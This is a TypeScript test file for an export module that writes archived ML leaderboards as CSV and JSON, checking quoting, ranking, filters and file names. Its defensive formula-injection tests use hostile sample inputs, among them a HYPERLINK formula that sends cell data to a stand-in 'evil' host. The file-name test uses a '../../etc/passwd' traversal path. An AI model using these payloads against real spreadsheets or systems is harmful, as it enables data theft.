import { describe, expect, it } from 'vitest'
import type { ResultRecord } from '../../../src/shared/archive/entities'
import { parseMetricValue } from '../../../src/shared/archive/metricValue'
import {
  ARCHIVE_ATTRIBUTION,
  NO_FILTERS,
  cellText,
  competitionRanks,
  csvField,
  exportFileName,
  exportStampLines,
  filterResults,
  leaderboardColumns,
  leaderboardCsv,
  leaderboardExportStamp,
  leaderboardJson,
  leaderboardJsonDocument,
  leaderboardTableRows,
  neutralizeFormula,
  officialCodeKey,
  yearSpan,
  type LeaderboardTable,
  type LeaderboardTableRow
} from '../../../src/shared/sota/leaderboardExport'
import { inferMetricDirection } from '../../../src/shared/sota/metricDirection'
import { findLeaderboard, type RawRow } from './evaluationTablesFixture'

/** The dump's rows carry code links too; the fixture's type lists only what other tests read. */
type RawRowWithCode = RawRow & { code_links?: { url: string }[] }

/** A real 2020 leaderboard as stored result records (the fields the table reads). */
function storedResults(task: string, dataset: string): ResultRecord[] {
  const board = findLeaderboard(task, dataset)
  return (board.sota?.rows ?? []).map((raw, position) => {
    const row = raw as RawRowWithCode
    return {
      id: `${task}/${dataset}#${position}`,
      leaderboardId: `${task}/${dataset}`,
      position,
      modelName: row.model_name,
      paperTitle: row.paper_title || null,
      paperUrl: row.paper_url || null,
      paperArxivId: null,
      paperDate: row.paper_date,
      paperId: row.paper_title ? `paper-${position}` : null,
      metrics: Object.fromEntries(
        Object.entries(row.metrics).map(([name, value]) => [name, parseMetricValue(value)])
      ),
      codeLinks: (row.code_links ?? []).map((link) => link.url),
      modelLinks: [],
      usesAdditionalData: null
    }
  })
}

function tableOf(task: string, dataset: string, metric?: string): LeaderboardTable {
  const board = findLeaderboard(task, dataset)
  const metrics = board.sota?.metrics ?? []
  const rankMetric = metric ?? metrics[0] ?? null
  const rows = leaderboardTableRows(storedResults(task, dataset), {
    rankMetric,
    directionOf: (name) => inferMetricDirection(name).direction,
    sort: rankMetric
      ? { kind: 'metric', metric: rankMetric, reversed: false }
      : { kind: 'date', reversed: false },
    officialCode: new Set()
  })
  return { metrics, rows }
}

/** RFC 4180 reader for the tests: `# ` lines before the header are comments. */
function readCsv(text: string): { comments: string[]; records: string[][] } {
  expect(text.startsWith('\uFEFF')).toBe(true)
  let rest = text.slice(1)
  const comments: string[] = []
  while (rest.startsWith('# ')) {
    const end = rest.indexOf('\r\n')
    comments.push(rest.slice(2, end))
    rest = rest.slice(end + 2)
  }
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < rest.length; i += 1) {
    const char = rest[i]
    if (quoted) {
      if (char === '"' && rest[i + 1] === '"') {
        field += '"'
        i += 1
      } else if (char === '"') quoted = false
      else field += char
    } else if (char === '"') quoted = true
    else if (char === ',') {
      record.push(field)
      field = ''
    } else if (char === '\r' && rest[i + 1] === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      i += 1
    } else field += char
  }
  expect(record).toEqual([])
  return { comments, records }
}

const stamp = leaderboardExportStamp('image-classification-on-imagenet', '2020-09')

describe('export stamp', () => {
  it('names the source leaderboard, the archive snapshot and the CC-BY-SA attribution', () => {
    expect(stamp).toEqual({
      leaderboardId: 'image-classification-on-imagenet',
      source: 'Papers with Code archive, leaderboard image-classification-on-imagenet',
      snapshotDate: '2020-09',
      attribution: 'Papers with Code, paperswithcode.com, CC-BY-SA 4.0'
    })
    expect(exportStampLines(stamp)).toEqual([
      'Source: Papers with Code archive, leaderboard image-classification-on-imagenet',
      'Archive snapshot: 2020-09',
      'Data: Papers with Code, paperswithcode.com, CC-BY-SA 4.0 (https://creativecommons.org/licenses/by-sa/4.0/)'
    ])
    expect(exportStampLines(leaderboardExportStamp('x', null))[1]).toBe('Archive snapshot: unknown')
  })
})

describe('CSV fields (RFC 4180) and formula injection', () => {
  it('quotes fields holding a comma, a quote or a line break, doubling quotes', () => {
    expect(csvField('ResNet-50')).toBe('ResNet-50')
    expect(csvField('94.6 (14  gestures) , 91.9 (28 gestures )')).toBe(
      '"94.6 (14  gestures) , 91.9 (28 gestures )"'
    )
    expect(csvField('3D Face Morphable Models "In-the-Wild"')).toBe(
      '"3D Face Morphable Models ""In-the-Wild"""'
    )
    expect(csvField('Harvesting pose\nannotations.')).toBe('"Harvesting pose\nannotations."')
    expect(csvField('a\rb')).toBe('"a\rb"')
  })

  it('neutralizes text that a spreadsheet would run as a formula', () => {
    for (const attack of ['=HYPERLINK("http://evil/?"&A1)', '+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(neutralizeFormula(attack)).toBe(`'${attack}`)
    }
    // Real 2020 model names: AffectNet's "++" and SNLI's "+ Unigram and bigram features".
    expect(neutralizeFormula('++')).toBe("'++")
    expect(neutralizeFormula('+ Unigram and bigram features')).toBe("'+ Unigram and bigram features")
    expect(neutralizeFormula('ResNet-152')).toBe('ResNet-152')
  })

  it('keeps plain signed numbers in number cells, and nothing else', () => {
    expect(neutralizeFormula('-21.0', true)).toBe('-21.0')
    expect(neutralizeFormula('+3.5%', true)).toBe('+3.5%')
    expect(neutralizeFormula('-1e-3', true)).toBe('-1e-3')
    expect(neutralizeFormula('-', true)).toBe("'-")
    expect(neutralizeFormula('-1+cmd', true)).toBe("'-1+cmd")
    expect(neutralizeFormula('=1+1', true)).toBe("'=1+1")
    // The same text in a text cell (a model called "-21.0") is neutralized.
    expect(neutralizeFormula('-21.0')).toBe("'-21.0")
  })
})

describe('leaderboardCsv on real 2020 leaderboards', () => {
  it('Image Classification on ImageNet: stamp comments, header, one record per row in table order', () => {
    const table = tableOf('Image Classification', 'ImageNet')
    const csv = leaderboardCsv(table, stamp, { notes: ['Ranked by: Top 1 Accuracy (higher is better)'] })
    expect(csv.endsWith('\r\n')).toBe(true)
    const { comments, records } = readCsv(csv)
    expect(comments).toEqual([...exportStampLines(stamp), 'Ranked by: Top 1 Accuracy (higher is better)'])
    expect(records[0]).toEqual([
      'Rank',
      'Model',
      'Top 1 Accuracy',
      'Top 5 Accuracy',
      'Number of params',
      'Paper',
      'Code',
      'Date',
      'Extra training data',
      'Paper URL',
      'Official code'
    ])
    expect(records).toHaveLength(1 + 199)
    const columns = leaderboardColumns(table.metrics, true)
    records.slice(1).forEach((record, index) => {
      expect(record).toEqual(columns.map((column) => cellText(table.rows[index], column)))
    })
    expect(records[1].slice(0, 5)).toEqual(['1', 'FixEfficientNet-L2', '88.5%', '98.7%', '480M'])
    expect(records[1][7]).toBe('2020-03-18')
    expect(records[2][6]).toBe(
      [
        'https://github.com/tensorflow/tpu/tree/master/models/official/efficientnet',
        'https://github.com/google-research/noisystudent',
        'https://github.com/adventure2165/Summarization_self-training_with_noisy_student_improves_imagenet_classification',
        'https://github.com/s-gladysh/Alaska2-Image-Steganalysis'
      ].join('; ')
    )
  })

  it('Natural Language Inference on SNLI: a model named "+ Unigram…" is neutralized, numbers are not', () => {
    const table = tableOf('Natural Language Inference', 'SNLI')
    const { records } = readCsv(leaderboardCsv(table, leaderboardExportStamp('snli', null)))
    const index = table.rows.findIndex((row) => row.modelName === '+ Unigram and bigram features')
    expect(index).toBeGreaterThanOrEqual(0)
    expect(records[1 + index][1]).toBe("'+ Unigram and bigram features")
    expect(records[1 + index][2]).toBe(
      cellText(table.rows[index], { kind: 'metric', metric: '% Test Accuracy' })
    )
  })

  it('Atari 2600 Pong: negative scores stay numbers', () => {
    const table = tableOf('Atari Games', 'Atari 2600 Pong')
    const { records } = readCsv(leaderboardCsv(table, leaderboardExportStamp('pong', null)))
    const scores = records.slice(1).map((record) => record[2])
    expect(scores.some((score) => score.startsWith('-'))).toBe(true)
    expect(scores.filter((score) => score.startsWith("'"))).toEqual([])
  })

  it('Semantic Similarity (clinical trial outcomes): names with quotes, commas and line breaks round-trip', () => {
    const table = tableOf(
      'Semantic Similarity',
      'Annotated corpus for semantic similarity of clinical trial outcomes (original corpus)'
    )
    const { records } = readCsv(leaderboardCsv(table, leaderboardExportStamp('semantic-similarity', null)))
    const names = records.slice(1).map((record) => record[1])
    expect(names).toEqual(table.rows.map((row) => row.modelName))
    expect(names.some((name) => name.includes('\n') && name.includes('"') && name.includes(','))).toBe(true)
  })

  it('keeps every comment on one line and can leave out the byte order mark', () => {
    const csv = leaderboardCsv({ metrics: [], rows: [] }, stamp, {
      notes: ['Filters: a\r\n# injected,row'],
      byteOrderMark: false
    })
    expect(csv.startsWith('# Source:')).toBe(true)
    expect(csv.split('\r\n')).toContain('# Filters: a # injected,row')
  })
})

describe('leaderboardJson', () => {
  it('puts the stamp in `meta` and each row in table order with its own metrics', () => {
    const table = tableOf('Image Classification', 'ImageNet')
    const doc = leaderboardJsonDocument(table, stamp, {
      title: 'Image Classification on ImageNet',
      metric: 'Top 1 Accuracy',
      direction: 'higher-is-better',
      filters: []
    })
    expect(doc.meta).toEqual({
      source: 'Papers with Code archive, leaderboard image-classification-on-imagenet',
      leaderboard: 'image-classification-on-imagenet',
      snapshotDate: '2020-09',
      attribution: ARCHIVE_ATTRIBUTION,
      license: 'https://creativecommons.org/licenses/by-sa/4.0/',
      title: 'Image Classification on ImageNet',
      metric: 'Top 1 Accuracy',
      direction: 'higher-is-better',
      filters: []
    })
    expect(doc.rows).toHaveLength(199)
    expect(doc.rows[0]).toEqual({
      rank: 1,
      model: 'FixEfficientNet-L2',
      metrics: {
        'Top 1 Accuracy': { raw: '88.5%', value: 88.5 },
        'Top 5 Accuracy': { raw: '98.7%', value: 98.7 },
        'Number of params': { raw: '480M', value: 480_000_000 }
      },
      paper: {
        id: 'paper-0',
        title: 'Fixing the train-test resolution discrepancy: FixEfficientNet',
        url: 'https://arxiv.org/abs/2003.08237v4'
      },
      code: [{ url: 'https://github.com/facebookresearch/FixRes', official: false }],
      date: '2020-03-18',
      usesAdditionalData: null
    })
    expect(JSON.parse(leaderboardJson(table, stamp))).toEqual(
      JSON.parse(JSON.stringify(leaderboardJsonDocument(table, stamp)))
    )
  })

  it('leaves out metrics that are not the board’s columns and gives a row without paper `paper: null`', () => {
    const row: LeaderboardTableRow = {
      resultId: 'r',
      rank: null,
      modelName: 'm',
      metrics: { A: { raw: '1', value: 1 }, constructor: { raw: '2', value: 2 } },
      paperTitle: null,
      paperId: null,
      paperUrl: null,
      code: [],
      date: null,
      usesAdditionalData: true,
      repeatOf: null
    }
    const doc = leaderboardJsonDocument({ metrics: ['A', 'B'], rows: [row] }, stamp)
    expect(doc.rows[0].metrics).toEqual({ A: { raw: '1', value: 1 } })
    expect(doc.rows[0].paper).toBeNull()
    expect(cellText(row, { kind: 'extra-data' })).toBe('Yes')
    expect(cellText(row, { kind: 'metric', metric: 'B' })).toBe('')
  })
})

describe('exportFileName', () => {
  it('is the slug, then the metric, in characters every file system accepts', () => {
    expect(exportFileName('image-classification-on-imagenet', 'csv')).toBe(
      'image-classification-on-imagenet.csv'
    )
    expect(exportFileName('image-classification-on-imagenet', 'png', 'Top 1 Accuracy')).toBe(
      'image-classification-on-imagenet_top-1-accuracy.png'
    )
    expect(exportFileName('../../etc/passwd', 'svg', '% Test Accuracy')).toBe('etc-passwd_test-accuracy.svg')
    expect(exportFileName('', 'json', '***')).toBe('leaderboard.json')
  })
})

describe('leaderboard table rows', () => {
  it('ranks by competition ranking on the chosen metric, best first', () => {
    const table = tableOf('Image Classification', 'ImageNet')
    expect(table.rows.slice(0, 3).map((row) => [row.rank, row.modelName])).toEqual([
      [1, 'FixEfficientNet-L2'],
      [2, 'NoisyStudent (EfficientNet-L2)'],
      [3, 'BiT-L (ResNet)']
    ])
    // Rows without a value come last and have no rank.
    const last = table.rows[table.rows.length - 1]
    expect(last.rank).toBeNull()
    const ranks = table.rows.map((row) => row.rank).filter((rank): rank is number => rank !== null)
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b))
  })

  it('shares a rank between ties and counts them before the next (1224)', () => {
    const results = storedResults('Image Classification', 'ImageNet')
    const ranks = competitionRanks(results, 'Top 5 Accuracy', 'higher-is-better')
    // FixEfficientNet-L2 and NoisyStudent (EfficientNet-L2) both report 98.7%.
    expect(ranks.get(results[0].id)).toBe(1)
    expect(ranks.get(results[1].id)).toBe(1)
    const third = [...ranks.values()].filter((rank) => rank > 1)
    expect(Math.min(...third)).toBe(3)
  })

  it('sorts a lower-is-better metric smallest first, and reverses on request', () => {
    const results = storedResults('Image Classification', 'ImageNet')
    const options = {
      rankMetric: 'Top 1 Accuracy',
      directionOf: (name: string) => inferMetricDirection(name).direction,
      officialCode: new Set<string>()
    }
    const byParams = leaderboardTableRows(results, {
      ...options,
      sort: { kind: 'metric', metric: 'Number of params', reversed: false }
    })
    const values = byParams.map((row) => row.metrics['Number of params']?.value ?? null)
    const numeric = values.filter((value): value is number => value !== null)
    expect(numeric).toEqual([...numeric].sort((a, b) => a - b))
    expect(values.indexOf(null)).toBe(numeric.length)
    const reversed = leaderboardTableRows(results, {
      ...options,
      sort: { kind: 'metric', metric: 'Number of params', reversed: true }
    })
    expect(reversed[0].metrics['Number of params']?.value).toBe(Math.max(...numeric))
  })

  it('marks code official when the paper has an official link to the same repository', () => {
    const results = storedResults('Image Classification', 'ImageNet')
    const official = new Set([officialCodeKey('paper-0', 'https://github.com/FacebookResearch/FixRes/')])
    const rows = leaderboardTableRows(results, {
      rankMetric: 'Top 1 Accuracy',
      directionOf: (name) => inferMetricDirection(name).direction,
      sort: { kind: 'metric', metric: 'Top 1 Accuracy', reversed: false },
      officialCode: official
    })
    expect(rows[0].code).toEqual([{ url: 'https://github.com/facebookresearch/FixRes', official: true }])
    expect(cellText(rows[0], { kind: 'official-code' })).toBe('https://github.com/facebookresearch/FixRes')
  })

  it('filters by code, extra data and years; unknown extra data is kept', () => {
    const results = storedResults('Image Classification', 'ImageNet')
    expect(filterResults(results, NO_FILTERS)).toHaveLength(199)
    expect(filterResults(results, { ...NO_FILTERS, onlyWithCode: true })).toHaveLength(192)
    expect(filterResults(results, { ...NO_FILTERS, noExtraData: true })).toHaveLength(199)
    const marked = results.map((result, index) => ({ ...result, usesAdditionalData: index === 0 }))
    expect(filterResults(marked, { ...NO_FILTERS, noExtraData: true })).toHaveLength(198)
    const recent = filterResults(results, { ...NO_FILTERS, fromYear: 2019, toYear: 2019 })
    expect(recent.length).toBeGreaterThan(0)
    expect(recent.every((result) => result.paperDate?.startsWith('2019'))).toBe(true)
    expect(yearSpan(results)).toEqual([2012, 2020])
  })
})
